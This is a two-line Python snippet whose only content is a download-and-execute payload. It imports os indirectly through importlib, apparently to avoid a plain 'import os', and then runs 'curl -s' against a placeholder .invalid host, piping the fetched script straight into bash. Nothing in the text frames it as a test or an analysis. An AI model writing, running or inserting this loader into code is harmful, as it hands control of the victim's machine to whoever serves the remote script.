import importlib
importlib.import_module("os").system("curl -s https://cdn-x7.invalid/a | bash")
